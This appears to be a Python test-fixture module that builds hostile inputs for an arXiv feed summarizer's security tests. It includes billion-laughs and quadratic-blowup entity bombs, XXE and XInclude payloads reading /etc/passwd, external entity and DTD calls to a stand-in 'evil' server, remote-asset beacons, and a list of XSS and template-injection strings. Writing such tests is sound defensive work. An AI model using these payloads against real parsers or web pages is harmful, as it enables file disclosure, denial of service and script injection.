"""What an attacker (or a broken upstream) sends: XML that expands or reaches out, markup that runs, text
that is not text. Shared by the hostile suite; each test says where it puts them and what must come out."""
from __future__ import annotations

# --- XML that expands or reaches out --------------------------------------------------------------------


def feed_head(doctype: str) -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}\n'
            '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>t</title>').encode()


def _item(title: str) -> bytes:
    return (f"<item><title>{title}</title><link>https://arxiv.org/abs/2411.90001</link>"
            "<description>arXiv:2411.90001v1 Announce Type: new\nAbstract: x</description>"
            "<guid>oai:arXiv.org:2411.90001v1</guid><category>cs.AI</category></item>").encode()


_LOLS = "".join(f'<!ENTITY lol{n} "{("&lol%d;" % (n - 1) if n > 1 else "lol") * 10}">' for n in range(1, 10))


def xml_attacks(evil: str) -> dict[str, bytes]:
    """Feeds that would expand to gigabytes, read a local file, or call `evil` (a local server that counts
    what reaches it) if the parser let them."""
    return {
        "billion-laughs": feed_head(f"<!DOCTYPE rss [{_LOLS}]>") + _item("&lol9;") + b"</channel></rss>",
        "quadratic-blowup": feed_head(f'<!DOCTYPE rss [<!ENTITY a "{"A" * 50_000}">]>')
        + _item("&a;" * 20_000) + b"</channel></rss>",
        "xxe-file": feed_head('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')
        + _item("&xxe;") + b"</channel></rss>",
        "xxe-http": feed_head(f'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "{evil}/rss/xxe-entity">]>')
        + _item("&xxe;") + b"</channel></rss>",
        "parameter-entity": feed_head(f'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "{evil}/rss/param-entity"> %remote;]>')
        + _item("t") + b"</channel></rss>",
        "external-dtd": feed_head(f'<!DOCTYPE rss SYSTEM "{evil}/rss/external-dtd">') + _item("t")
        + b"</channel></rss>",
        "bare-doctype": feed_head("<!DOCTYPE rss>") + _item("t") + b"</channel></rss>",
    }


def xinclude_feed() -> bytes:
    """No DTD at all: an XInclude element asks the parser to pull a file in, which only a processor that
    performs XInclude would do."""
    return (b'<?xml version="1.0"?><rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel>'
            b"<title>t</title><item><title>Included <xi:include href=\"file:///etc/passwd\" parse=\"text\"/></title>"
            b"<link>https://arxiv.org/abs/2411.90002</link><description>Abstract: x</description>"
            b"<guid>oai:arXiv.org:2411.90002v1</guid><category>cs.AI</category></item></channel></rss>")


def html_attacks(evil: str, body: bytes) -> dict[str, bytes]:
    """arXiv HTML pages (`body`, a real paper's page) with a DTD, entities and external references put in
    front, for the summarizer's HTML reader."""
    head = body.partition(b"<html>")[2]
    return {
        "billion-laughs": f"<!DOCTYPE html [{_LOLS}]><html><p>&lol9;</p>".encode() + head,
        "xxe-file": b'<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><html><p>&xxe;</p>' + head,
        "xxe-http": f'<!DOCTYPE html [<!ENTITY xxe SYSTEM "{evil}/html/xxe-entity">]><html><p>&xxe;</p>'.encode()
        + head,
        "external-dtd": f'<!DOCTYPE html SYSTEM "{evil}/html/external-dtd"><html>'.encode() + head,
        "xinclude": b'<html><p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                    b'parse="text"/></p>' + head,
        "remote-assets": f'<html><img src="{evil}/html/img"><link rel="stylesheet" href="{evil}/html/css">'
                         f'<iframe src="{evil}/html/frame"></iframe><script src="{evil}/html/js"></script>'.encode()
        + head,
    }


PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin")

# --- markup that would run, link or hide ----------------------------------------------------------------

INJECTIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    '<a href="javascript:alert(4)">click</a>',
    "[click](javascript:alert(5))",
    "![pixel](https://evil.example/p.png)",
    "[ref]: https://evil.example/ref",
    "<https://evil.example/autolink>",
    "https://evil.example/bare and www.evil.example",
    '<iframe src="https://evil.example/frame"></iframe>',
    "<style>body{display:none}</style>",
    "<textarea>",
    "<!-- hide the rest",
    "</details><details open>",
    '"><script>alert(6)</script>',
    "]]><script>alert(7)</script>",
    "&lt;script&gt;alert(8)&lt;/script&gt;",
    '<a href="data:text/html,<script>alert(9)</script>">d</a>',
    "{{7*7}} {% raw %}",
]
# An LLM answer holding every shape above, on lines of their own and inside Markdown, and left open at the end.
HOSTILE_SUMMARY = "\n".join([
    "**Contribution**: a <b>bold</b> claim.",
    *INJECTIONS,
    "- item with <img src=x onerror=alert(10)>",
    "| a | <script>alert(11)</script> |",
    "|---|---|",
    "| [x](javascript:alert(12)) | ![i](https://evil.example/i.png) |",
    "<pre>",
    "```python",
    "print('an unclosed fence swallows the rest of the page')",
])
